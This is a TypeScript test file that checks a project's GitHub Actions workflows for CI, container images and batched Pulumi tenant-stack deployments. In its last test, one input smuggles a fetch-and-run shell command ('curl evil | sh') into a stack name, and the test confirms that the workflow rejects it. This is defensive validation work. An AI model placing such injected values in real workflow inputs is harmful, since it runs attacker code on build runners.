import { execFile } from "node:child_process";
import { cp, mkdir, readdir, readFile, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { promisify } from "node:util";
import { describe, expect, it } from "vitest";
import { MATRIX_LIMIT } from "../../infra/fleet/plan.ts";
import { ROOT, temporaryDirectory } from "../e2e/harness.ts";
import { actionlint, interpolatedRunLines } from "./actionlint.ts";

const WORKFLOWS = join(ROOT, ".github/workflows");
const workflowFiles = (await readdir(WORKFLOWS)).filter((name) => /\.ya?ml$/.test(name)).sort();
const read = (name: string): Promise<string> => readFile(join(WORKFLOWS, name), "utf8");

describe("every GitHub workflow", () => {
  it("should exist for CI, the image and the tenant stacks", () => {
    expect(workflowFiles).toEqual(expect.arrayContaining(["ci.yml", "image.yml", "tenant-stack.yml", "tenant-stack-batch.yml"]));
  });

  it.each(workflowFiles)("%s should pass actionlint", async (name) => {
    expect(await actionlint(await read(name), `.github/workflows/${name}`)).toEqual([]);
  });

  it("should be checked by a linter that finds real mistakes", async () => {
    const broken =
      "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    needs: missing\n    steps:\n      - run: echo ${{ github.event.pull_request.title }}\n";
    const problems = (await actionlint(broken, "broken.yml")).map((problem) => problem.kind);
    expect(problems).toEqual(expect.arrayContaining(["job-needs", "expression"]));
  });

  it.each(workflowFiles)("%s should pass no expression into a shell line (inputs go through env)", async (name) => {
    expect(interpolatedRunLines(await read(name))).toEqual([]);
  });

  it("should be checked for interpolated shell lines by a scanner that finds them", () => {
    const text =
      "    steps:\n      - run: |\n          echo ok\n          echo ${{ inputs.stack }}\n      - run: echo ${{ inputs.command }}\n      - env:\n          A: ${{ inputs.stack }}\n";
    expect(interpolatedRunLines(text).map((found) => found.line)).toEqual([4, 5]);
  });
});

describe("the CI workflow", () => {
  it("should run .ci/run, the command every merge runs", async () => {
    expect(await read("ci.yml")).toMatch(/^\s+- run: bash \.ci\/run$/m);
  });
});

describe("the image workflow", () => {
  it("should build on version tags and push with an SBOM and max-mode provenance", async () => {
    const text = await read("image.yml");
    expect(text).toMatch(/tags: \["v\*\.\*\.\*"\]/);
    expect(text).toContain("uses: docker/build-push-action@v6");
    expect(text).toMatch(/^\s+sbom: true$/m);
    expect(text).toMatch(/^\s+provenance: mode=max$/m);
    expect(text).toMatch(/^\s+push: true$/m);
  });
});

describe("the tenant-stack workflows", () => {
  it("should create a missing stack, run one job per stack, never two at once on a stack, and sign in with OIDC", async () => {
    const batch = await read("tenant-stack-batch.yml");
    expect(batch).toContain('run: pulumi stack select --create "$STACK"');
    expect(batch).toMatch(/matrix:\n\s+stack: \$\{\{ fromJson\(inputs\.stacks\) \}\}/);
    expect(batch).toMatch(/concurrency:\n\s+group: tenant-stack-\$\{\{ matrix\.stack \}\}\n\s+cancel-in-progress: false/);
    expect(batch).toContain('ARM_USE_OIDC: "true"');
    expect(batch).toContain("uses: azure/login@v2");
    expect(batch).toContain("id-token: write");
    expect(batch).toContain("pulumi preview --diff");
    const caller = await read("tenant-stack.yml");
    expect(caller).toContain("uses: ./.github/workflows/tenant-stack-batch.yml");
    expect(caller).toContain("stacks: ${{ toJson(matrix.batch.stacks) }}");
    expect(caller).toContain('gh pr comment "$PR" --body-file body.md --edit-last --create-if-none');
  });
});

/** The plan step of tenant-stack.yml, run as the workflow runs it: its `run:` line in bash, its env, the checkout as cwd. */
async function runPlanStep(checkout: string, env: Record<string, string>): Promise<Record<string, string>> {
  const text = await read("tenant-stack.yml");
  const step = /- id: plan\n\s+env:\n((?:\s+\w+: .+\n)+)\s+run: (.+)\n/.exec(text);
  expect(step, "tenant-stack.yml has the plan step").not.toBeNull();
  const names = [...(step?.[1] ?? "").matchAll(/(\w+): \$\{\{ (.+?) \}\}/g)].map((match) => [match[1], match[2]]);
  expect(names).toEqual([
    ["EVENT", "github.event_name"],
    ["STACK", "inputs.stack"],
    ["COMMAND", "inputs.command"],
  ]);
  const output = join(checkout, "github-output");
  await writeFile(output, "");
  await promisify(execFile)("bash", ["-c", step?.[2] ?? ""], {
    cwd: checkout,
    env: { PATH: `${dirname(process.execPath)}:/usr/bin:/bin`, GITHUB_OUTPUT: output, ...env },
  });
  return Object.fromEntries(
    (await readFile(output, "utf8"))
      .split("\n")
      .filter((line) => line !== "")
      .map((line) => [line.slice(0, line.indexOf("=")), line.slice(line.indexOf("=") + 1)]),
  );
}

describe("a fleet of 500 tenant stacks", () => {
  it("should deploy every stack exactly once, in batches of at most 256, leaving the examples out", async () => {
    const checkout = await temporaryDirectory();
    try {
      await cp(join(ROOT, "infra/fleet"), join(checkout.path, "infra/fleet"), { recursive: true });
      await mkdir(join(checkout.path, ".github"));
      await cp(join(ROOT, ".github/example-stacks.txt"), join(checkout.path, ".github/example-stacks.txt"));
      const stacks = Array.from({ length: 500 }, (_, index) => `customer${String(index).padStart(3, "0")}`);
      for (const stack of [...stacks, "contoso"])
        await writeFile(join(checkout.path, `Pulumi.${stack}.yaml`), `config:\n  auditfeed:customer: ${stack.slice(0, 12)}\n`);
      await writeFile(join(checkout.path, "Pulumi.yaml"), "name: auditfeed\n");

      const outputs = await runPlanStep(checkout.path, { EVENT: "push", STACK: "", COMMAND: "" });
      const batches = JSON.parse(outputs["batches"] ?? "[]") as { name: string; stacks: string[] }[];
      expect(outputs["command"]).toBe("up");
      expect(outputs["count"]).toBe("500");
      expect(batches.length).toBe(Math.ceil(500 / MATRIX_LIMIT));
      for (const batch of batches) expect(batch.stacks.length).toBeLessThanOrEqual(MATRIX_LIMIT);
      const planned = batches.flatMap((batch) => batch.stacks);
      expect(planned.sort()).toEqual(stacks);
      expect(planned).not.toContain("contoso");

      const one = await runPlanStep(checkout.path, { EVENT: "workflow_dispatch", STACK: "customer042", COMMAND: "destroy" });
      expect(one["command"]).toBe("destroy");
      expect(JSON.parse(one["batches"] ?? "")).toEqual([{ name: "1-1", stacks: ["customer042"] }]);
    } finally {
      await checkout.remove();
    }
  });

  it("should refuse a dispatch input that is not a stack of the fleet, naming it, before any job runs", async () => {
    const checkout = await temporaryDirectory();
    try {
      await cp(join(ROOT, "infra/fleet"), join(checkout.path, "infra/fleet"), { recursive: true });
      await mkdir(join(checkout.path, ".github"));
      await cp(join(ROOT, ".github/example-stacks.txt"), join(checkout.path, ".github/example-stacks.txt"));
      await writeFile(join(checkout.path, "Pulumi.contoso.yaml"), "config: {}\n");
      for (const [stack, message] of [
        ['x"; curl evil | sh; "', "is not a stack name"],
        ["contoso", "is an example stack"],
        ["fabrikam", "has no Pulumi.fabrikam.yaml"],
      ] as const) {
        const failed = await runPlanStep(checkout.path, { EVENT: "workflow_dispatch", STACK: stack, COMMAND: "up" }).catch((error: unknown) => error);
        expect(failed).toBeInstanceOf(Error);
        expect((failed as { stderr: string }).stderr).toContain(message);
      }
    } finally {
      await checkout.remove();
    }
  });
});
